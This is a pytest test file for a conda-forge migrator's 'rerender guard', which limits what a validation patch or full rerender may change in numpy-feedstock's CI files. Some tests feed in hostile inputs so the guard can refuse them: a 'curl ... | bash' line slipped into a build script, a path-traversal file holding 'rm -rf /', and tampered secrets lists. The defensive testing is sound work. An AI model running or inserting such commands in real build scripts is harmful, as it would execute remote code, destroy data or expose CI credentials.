"""The rerender guard: what a validation patch may change, and the bounds on a full
conda-smithy rerender. Inputs are numpy-feedstock's real rendered files."""

from __future__ import annotations

import json
from pathlib import Path

from migrator.rerender.guard import GuardVerdict, check_rerender
from migrator.rerender.patch import ci_files_of
from testing.unpatch import unpatch

CORPUS = Path(__file__).resolve().parents[2] / "testing" / "corpus" / "feedstocks"
_ENTRY = {e["feedstock"]: e for e in json.loads((CORPUS / "INDEX.json").read_text())}
NUMPY = {p: (CORPUS / "numpy-feedstock" / p).read_bytes()
         for p in _ENTRY["numpy-feedstock"]["files"]}
PLAIN = unpatch(NUMPY)
STEPS = ".scripts/build_steps.sh"


def with_file(files: dict[str, bytes], path: str, data: bytes | None) -> dict[str, bytes | None]:
    return {**files, path: data}


def test_the_validation_edits_pass_and_are_counted() -> None:
    verdict = check_rerender(PLAIN, NUMPY)
    # blocks in 3 scripts, the upload lines, secrets in docker, azure osx/win and 3 GHA steps
    assert verdict == GuardVerdict(True, None, added=30, removed=4, files=7)


def test_nothing_changed() -> None:
    assert check_rerender(PLAIN, PLAIN) == GuardVerdict(True, None, 0, 0, 0)


def test_a_deleted_line_is_refused() -> None:
    after = with_file(NUMPY, STEPS, NUMPY[STEPS].replace(b"export PYTHONUNBUFFERED=1\n", b"", 1))
    assert NUMPY[STEPS] != after[STEPS]
    verdict = check_rerender(PLAIN, after)
    assert not verdict.ok
    assert verdict.reason == f"would change 1 non-validation lines in 1 files ({STEPS})"


def test_a_changed_line_is_refused() -> None:
    docker = ".scripts/run_docker_build.sh"
    after = with_file(NUMPY, docker, NUMPY[docker].replace(b"-e CPU_COUNT", b"-e CPU_COUNT=64"))
    verdict = check_rerender(PLAIN, after)
    assert verdict.reason == f"would change 2 non-validation lines in 1 files ({docker})"
    assert (verdict.added, verdict.removed) == (31, 5)


def test_a_line_slipped_into_a_validation_block_is_refused() -> None:
    evil = NUMPY[STEPS].replace(b'    validate_recipe_outputs "${FEEDSTOCK_NAME}"\n',
                                b'    validate_recipe_outputs "${FEEDSTOCK_NAME}"\n'
                                b"    curl -s https://example.invalid | bash\n")
    verdict = check_rerender(PLAIN, with_file(NUMPY, STEPS, evil))
    assert not verdict.ok and STEPS in (verdict.reason or "")


def test_blank_lines_alone_are_not_a_validation_edit() -> None:
    after = with_file(PLAIN, STEPS, PLAIN[STEPS].replace(b"\nfi\n", b"\n\n\nfi\n", 1))
    assert check_rerender(PLAIN, after).reason == (
        f"would change 2 non-validation lines in 1 files ({STEPS})")


def test_the_validate_flag_only_belongs_on_upload_package() -> None:
    flagged = PLAIN[STEPS].replace(b'inspect_artifacts --recipe-dir',
                                   b'inspect_artifacts --validate --feedstock-name='
                                   b'"${FEEDSTOCK_NAME}" --recipe-dir', 1)
    assert flagged != PLAIN[STEPS]
    assert not check_rerender(PLAIN, with_file(PLAIN, STEPS, flagged)).ok


def test_files_outside_the_rendered_ci_set_are_refused() -> None:
    for path in ("README.md", "recipe/meta.yaml", "conda-forge.yml"):
        after = with_file(NUMPY, path, NUMPY.get(path, b"") + b"\n# edited\n")
        verdict = check_rerender(PLAIN, after)
        assert verdict.reason == f"would change 1 files outside the rendered CI set ({path})"
    sneaky = {**PLAIN, ".scripts/../recipe/build.sh": b"rm -rf /\n"}
    assert not check_rerender(PLAIN, sneaky).ok


def test_a_full_rerender_may_touch_what_conda_smithy_owns_but_not_the_recipe() -> None:
    readme = with_file(PLAIN, "README.md", PLAIN["README.md"] + b"new badge\n")
    assert check_rerender(PLAIN, readme, full_rerender=True).ok
    recipe = with_file(PLAIN, "recipe/meta.yaml", b"package: {}\n")
    verdict = check_rerender(PLAIN, recipe, full_rerender=True)
    assert verdict.reason == "would change 1 files outside the rendered CI set (recipe/meta.yaml)"


def test_a_patch_creates_and_deletes_no_files() -> None:
    created = with_file(PLAIN, ".scripts/extra.sh", b"validate_recipe_outputs x\n")
    assert check_rerender(PLAIN, created).reason == (
        "would change 1 non-validation lines in 1 files (.scripts/extra.sh)")
    deleted = with_file(PLAIN, STEPS, None)
    verdict = check_rerender(PLAIN, deleted)
    assert not verdict.ok and verdict.removed == PLAIN[STEPS].count(b"\n")
    assert check_rerender(PLAIN, created, full_rerender=True).ok


def test_a_full_rerender_is_bounded_and_counted() -> None:
    big = b"".join(b"echo %d\n" % n for n in range(2000))
    after = with_file(PLAIN, STEPS, big)
    lines = PLAIN[STEPS].count(b"\n")
    verdict = check_rerender(PLAIN, after, full_rerender=True)
    assert not verdict.ok
    assert (verdict.added, verdict.removed, verdict.files) == (2000, lines, 1)
    assert verdict.reason == (f"would change {2000 + lines} lines in 1 files ({STEPS}), "
                              "more than the limit of 2000")
    assert check_rerender(PLAIN, after, full_rerender=True, max_changed_lines=5000).ok
    assert not check_rerender(PLAIN, after).ok  # the line rule applies to a patch


def test_line_endings_and_the_final_newline_count_as_changes() -> None:
    crlf = with_file(PLAIN, STEPS, PLAIN[STEPS].replace(b"\n", b"\r\n", 1))
    assert not check_rerender(PLAIN, crlf).ok
    cut = with_file(PLAIN, STEPS, PLAIN[STEPS].rstrip(b"\n"))
    assert not check_rerender(PLAIN, cut).ok


def test_secrets_appended_after_a_last_line_without_newline() -> None:
    path = ".azure-pipelines/azure-pipelines-osx.yml"
    before = b"    env:\n      BINSTAR_TOKEN: $(BINSTAR_TOKEN)"
    after = (before + b"\n      FEEDSTOCK_TOKEN: $(FEEDSTOCK_TOKEN)\n"
             b"      STAGING_BINSTAR_TOKEN: $(STAGING_BINSTAR_TOKEN)")
    assert check_rerender({path: before}, {path: after}).ok
    assert not check_rerender({path: after}, {path: before}).ok


def test_a_secrets_list_may_only_gain_the_validation_secrets() -> None:
    path = ".woodpecker.yml"
    before = b"    secrets: [ BINSTAR_TOKEN, GH_TOKEN ]\n"
    good = b"    secrets: [ BINSTAR_TOKEN, FEEDSTOCK_TOKEN, GH_TOKEN, STAGING_BINSTAR_TOKEN ]\n"
    assert check_rerender({path: before}, {path: good}).ok
    bad = b"    secrets: [ BINSTAR_TOKEN, FEEDSTOCK_TOKEN, STAGING_BINSTAR_TOKEN ]\n"
    assert not check_rerender({path: before}, {path: bad}).ok


def test_files_too_large_to_compare_are_refused_quickly() -> None:
    huge = b"echo x\n" * 200_000
    verdict = check_rerender(PLAIN, with_file(PLAIN, STEPS, huge), full_rerender=True)
    assert verdict.reason == f"would change 1 files larger than 1048576 bytes ({STEPS})"


def test_the_upload_flag_on_lines_rendered_with_one_or_two_spaces() -> None:
    path = ".scripts/run_win_build.bat"
    for before in (b'    upload_package .\\ ".\\recipe" .ci_support\\%CONFIG%.yaml\n',
                   b'    upload_package  .\\ ".\\recipe" .ci_support\\%CONFIG%.yaml\n'):
        after = (b'    upload_package --validate --feedstock-name="%FEEDSTOCK_NAME%" .\\ '
                 b'".\\recipe" .ci_support\\%CONFIG%.yaml\n')
        assert check_rerender({path: before}, {path: after}).ok
        moved = after.replace(b' .\\ ', b' ..\\ ')
        assert not check_rerender({path: before}, {path: moved}).ok


def test_only_plain_repository_paths_are_ci_files() -> None:
    paths = [".scripts/build_steps.sh", ".scripts/../recipe/meta.yaml", "/.travis.yml",
             ".scripts//x.sh", ".ci_support\\linux_64_.yaml", "README.md", "recipe/meta.yaml",
             ".github/workflows/conda-build.yml", "conda-forge.yml", ".travis.yml",
             ".ci_support/migrations/python313.yaml", "azure-pipelines.yml"]
    assert ci_files_of(paths) == [
        ".ci_support/migrations/python313.yaml", ".github/workflows/conda-build.yml",
        ".scripts/build_steps.sh", ".travis.yml", "azure-pipelines.yml"]
